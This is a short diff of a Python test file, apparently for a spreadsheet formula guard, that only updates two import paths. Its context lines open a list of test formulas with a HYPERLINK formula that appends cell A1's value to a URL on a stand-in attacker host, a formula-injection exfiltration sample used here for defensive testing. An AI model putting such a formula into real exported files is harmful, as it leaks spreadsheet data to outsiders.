@@ -13,8 +13,8 @@ from test_score_file import Letters, score
 
 from star_agents.config.sections import ScoringConfig
 from star_agents.engine.score_dataset.job import ScoreJob
-from star_agents.storage.formula_cells import FormulaGuard
-from star_agents.storage.row_writing import write_rows
+from star_agents.storage.formats.formula_cells import FormulaGuard
+from star_agents.storage.formats.row_writing import write_rows
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1;"see")',
